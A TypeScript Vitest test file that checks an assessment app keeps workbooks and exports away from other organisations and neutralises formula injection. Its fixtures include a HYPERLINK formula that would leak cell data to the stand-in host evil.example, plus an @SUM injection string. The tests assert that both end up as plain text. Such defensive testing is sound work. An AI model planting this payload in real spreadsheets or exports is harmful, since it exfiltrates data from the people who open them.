import fs from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { beforeAll, describe, expect, it } from "vitest";
import { getAssessmentWorkbook } from "@/lib/data/assessment-workbook";
import { NotFoundError } from "@/lib/errors";
import { buildExportTables, EXPORT_PARTS } from "@/lib/reports/export-tables";
import { loadAssessmentReport } from "@/lib/reports/load-assessment-report";
import { writeExportCsv, writeExportWorkbook } from "@/lib/spreadsheets/export";
import { readAnswersWorkbook } from "@/lib/spreadsheets/read";
import { writeAnswersWorkbook } from "@/lib/spreadsheets/write";
import { ensureSeedQuestionnaireVersion } from "@/prisma/seed";
import { createOrgWithUsers, setupFreshDatabase } from "../db";

// Guards against another organisation reading an assessment's workbook or exports (cross-tenant
// read), and against CSV/formula injection: a vendor's answer "=HYPERLINK(…)" must reach
// procurement's spreadsheet as text, never as a formula that runs (issue 22).
const { prisma } = await setupFreshDatabase();
const a = await createOrgWithUsers(prisma, "workbook-a");
const b = await createOrgWithUsers(prisma, "workbook-b");
const wellRun = JSON.parse(
  fs.readFileSync(path.resolve("tests/fixtures/engine/well-run-vendor.json"), "utf8"),
);
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Frankfurt")';
const answers = {
  ...wellRun.input.answers,
  sites: wellRun.input.answers.sites.map((s: { name: string }, i: number) =>
    i === 0 ? { ...s, name: HOSTILE } : s,
  ),
};
let assessmentId = "";

beforeAll(async () => {
  const qv = await ensureSeedQuestionnaireVersion({ prisma });
  const vendor = await prisma.vendor.create({
    data: { orgId: a.org.id, name: "Workbook Co", tier: "critical" },
  });
  const assessment = await prisma.assessment.create({
    data: {
      orgId: a.org.id,
      vendorId: vendor.id,
      questionnaireVersionId: qv.id,
      requirements: wellRun.input.requirements,
      status: "in_progress",
      answers: {
        create: Object.entries(answers).map(([questionId, value]) => ({
          questionId,
          value: value as object,
          updatedByKind: "vendor" as const,
          // Carried in from an earlier assessment and not confirmed: not an answer yet.
          awaitingConfirmation: questionId === "rto_minutes",
        })),
      },
    },
  });
  assessmentId = assessment.id;
  await prisma.finding.create({
    data: {
      orgId: a.org.id,
      vendorId: vendor.id,
      assessmentId,
      title: "@SUM(1+1) restore gap",
      description: "d",
      severity: "high",
    },
  });
});

describe("the assessment's offline workbook", () => {
  it("answers NotFound for another organisation's assessment", async () => {
    await expect(getAssessmentWorkbook({ orgId: b.org.id, assessmentId })).rejects.toBeInstanceOf(
      NotFoundError,
    );
    await expect(loadAssessmentReport({ orgId: b.org.id, assessmentId })).rejects.toBeInstanceOf(
      NotFoundError,
    );
  });

  it("reads back as the assessment's confirmed answers and its stored requirements", async () => {
    const { input, vendorName } = await getAssessmentWorkbook({ orgId: a.org.id, assessmentId });
    expect(vendorName).toBe("Workbook Co");
    const read = await readAnswersWorkbook(await writeAnswersWorkbook(input));
    if (!read.ok) throw new Error(JSON.stringify(read.errors));
    const { rto_minutes: _unconfirmed, ...confirmed } = answers;
    expect(read.value.answers).toEqual(confirmed);
    expect(read.value.answers).not.toHaveProperty("rto_minutes");
    expect(read.value.requirements).toEqual(wellRun.input.requirements);
  });

  it("keeps a hostile site name as a text cell, never a formula", async () => {
    const { input } = await getAssessmentWorkbook({ orgId: a.org.id, assessmentId });
    const bytes = await writeAnswersWorkbook(input);
    const zip = await JSZip.loadAsync(bytes);
    const sheets = zip.file(/^xl\/worksheets\/sheet\d+\.xml$/);
    expect(sheets.length).toBeGreaterThan(4);
    for (const sheet of sheets) expect(await sheet.async("string")).not.toMatch(/<f[ >]/);
    const read = await readAnswersWorkbook(bytes);
    const sites = read.ok ? (read.value.answers.sites as readonly { name: string }[]) : [];
    expect(sites[0]?.name).toBe(HOSTILE);
  });

  it("is blank on request: the questionnaire and requirements, no answers", async () => {
    const { input } = await getAssessmentWorkbook({ orgId: a.org.id, assessmentId, blank: true });
    expect(input.answers).toEqual({});
    expect(input.requirements).toEqual(wellRun.input.requirements);
  });
});

describe("procurement's exports", () => {
  it("guard every text cell of the XLSX and the CSV against formula injection", async () => {
    const report = await loadAssessmentReport({ orgId: a.org.id, assessmentId });
    const tables = buildExportTables({ report });
    expect(tables.answers.rows.some((r) => String(r[3]).startsWith("=HYPERLINK"))).toBe(true);

    const book = new ExcelJS.Workbook();
    const bytes = await writeExportWorkbook({ tables: EXPORT_PARTS.map((p) => tables[p]) });
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(book.worksheets.map((s) => s.name)).toEqual(["Answers", "Flags", "Findings"]);
    const texts: string[] = [];
    for (const sheet of book.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((c) => {
          expect(c.formula).toBeUndefined();
          if (typeof c.value === "string") texts.push(c.value);
        }),
      );
    expect(texts.filter((t) => /^[=+\-@]/.test(t))).toEqual([]);
    expect(texts).toContain("'@SUM(1+1) restore gap");
    expect(texts.some((t) => t.startsWith(`'${HOSTILE}`))).toBe(true);

    const csv = writeExportCsv({ table: tables.answers });
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1`);
    const cells = csv.split(/\r\n/).flatMap((line) => line.split(","));
    expect(cells.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
    expect(writeExportCsv({ table: tables.findings })).toContain("'@SUM(1+1) restore gap");
  });
});
